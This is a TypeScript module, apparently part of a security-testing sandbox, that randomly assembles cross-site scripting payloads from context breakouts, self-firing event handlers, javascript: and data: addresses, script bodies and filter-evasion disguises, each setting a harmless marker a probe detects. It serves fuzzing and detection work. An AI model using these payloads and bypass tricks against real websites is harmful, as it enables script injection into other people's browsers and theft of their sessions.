import type { Dice } from '@/sandbox/values/dice'

/** The effect of a payload that runs: it leaves a mark or makes a request. `probe.ts` notices both. */
const deeds = ['window.__xss=1', 'self.__xss=1', 'top.__xss=1', 'alert(1)', '__xss=1'] as const

/** The same effect as a script. */
const scripts: readonly ((deed: string) => string)[] = [
  (deed) => deed,
  (deed) => `eval(atob('${btoa(deed)}'))`,
  (deed) => `eval(String.fromCharCode(${[...deed].map((one) => one.charCodeAt(0))}))`,
  (deed) => `Function(${JSON.stringify(deed)})()`,
  (deed) => `setTimeout('${deed}')`,
  (deed) => `[].constructor.constructor('${deed}')()`,
  (deed) => deed.replaceAll('s', '\\u0073').replaceAll('a', '\\u0061'),
  (deed) => `void(${deed})//`,
]

/** The same script as browsers read it in an attribute. */
const attributes: readonly ((script: string) => string)[] = [
  (script) => `"${escapeQuotes(script)}"`,
  (script) => `'${script.replaceAll("'", '&#39;')}'`,
  (script) => `"${[...script].map((one) => `&#${one.charCodeAt(0)};`).join('')}"`,
  (script) => `"${[...script].map((one) => `&#x${one.charCodeAt(0).toString(16)};`).join('')}"`,
  (script) => `"${[...script].map((one) => `&#${one.charCodeAt(0)}`).join('')}"`,
  (script) => `\`${script}\``,
]

/** Endings of the text around a payload. */
const ways = [
  '',
  '">',
  "'>",
  '>',
  '`>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</template>',
  '</select>',
  '</svg>',
  '-->',
  '--!>',
  ']]>',
  '"/>',
  '\\">',
  '}}>',
  '</td></tr></table>',
  '<svg><desc>',
  '<math><mtext>',
  '<noscript><p title="</noscript>',
  '<form><math><mtext></form><form><mglyph><style></math>',
] as const

/** An element that runs a handler by itself, and the handler. */
const handled = [
  ['img src=x', 'onerror'],
  ['img src=/favicon.ico', 'onload'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['div contenteditable autofocus', 'onfocus'],
  ['a href=# autofocus tabindex=1', 'onfocus'],
  ['input type=image src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['style', 'onload'],
  ['object data=x', 'onerror'],
  ['iframe', 'onload'],
  ['marquee', 'onstart'],
  ['div style="animation:x 1s" class=wd-row', 'onanimationstart'],
  ['div', 'onmouseover'],
  ['dialog open', 'onclose'],
] as const

/** An element that takes an address. */
const addressed = [
  'a href',
  'iframe src',
  'embed src',
  'object data',
  'form action',
  'button formaction',
  'img src',
  'base href',
  'link rel=import href',
  'svg><use href',
  'svg><a xlink:href',
  'math href',
  'meta http-equiv=refresh content',
  'area href',
] as const

const addresses: readonly ((script: string) => string)[] = [
  (script) => `javascript:${script}`,
  (script) => `JaVaScRiPt:${script}`,
  (script) => `java\tscript:${script}`,
  (script) => `java\nscript:${script}`,
  (script) => `\u0001javascript:${script}`,
  (script) => ` javascript:${script}`,
  (script) => `javascript&colon;${script}`,
  (script) => `javascript://%0a${script}`,
  (script) => `data:text/html,<script>${script}</script>`,
  (script) => `data:text/html;base64,${btoa(`<script>${script}</script>`)}`,
  (script) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script}'/>`,
  (script) => `vbscript:${script}`,
  (script) => `blob:${script}`,
]

/** An element whose content is what runs. */
const bodies: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<script type=module>${script}</script>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<script src="data:text/javascript,${encodeURIComponent(script)}"></script>`,
  (script) => `<iframe srcdoc="<script>parent.${escapeQuotes(script)}</script>"></iframe>`,
  (script) => `<style>@import 'javascript:${script}';</style>`,
  (script) => `<math><annotation-xml encoding="text/html"><script>${script}</script>`,
  (script) => `<xmp><script>${script}</script></xmp>`,
]

/** Disguises of the finished text against filters. */
const tricks: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text,
  (text) => text,
  (text) => text.replaceAll(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  (text) => text.replaceAll(/ (?=on)/g, '/'),
  (text) => text.replaceAll(/ (?=on)/g, '\n\t'),
  (text) => text.replaceAll(/ (?=on)/g, '\u000C'),
  (text) => `\u202E${text}\u202C`,
  (text) => text.replaceAll('<', '<\u200B'),
  (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => text.replaceAll(/<(\w)(\w)/g, '<$1\u0000$2'),
  (text) => `\uFEFF${text}`,
  (text) => text.replaceAll('<', '<<'),
]

/** One payload, made by chance of a way out, an element, what runs it, a spelling and a disguise. */
export function grow(dice: Dice): string {
  const script = dice.pick(scripts)(dice.pick(deeds))
  const element = dice.pick([growHandled, growAddressed, growBody, growHandled])(dice, script)
  return dice.pick(tricks)(dice.pick(ways) + element)
}

function growHandled(dice: Dice, script: string): string {
  const [element, handler] = dice.pick(handled)
  return `<${element} ${handler}=${dice.pick(attributes)(script)}>`
}

function growAddressed(dice: Dice, script: string): string {
  const address = dice.pick(addresses)(script)
  // an address by itself is one where a field is a link
  return dice.chance(0.3) ? address : `<${dice.pick(addressed)}="${escapeQuotes(address)}">x`
}

function growBody(dice: Dice, script: string): string {
  return dice.pick(bodies)(script)
}

function escapeQuotes(text: string): string {
  return text.replaceAll('"', '&quot;')
}
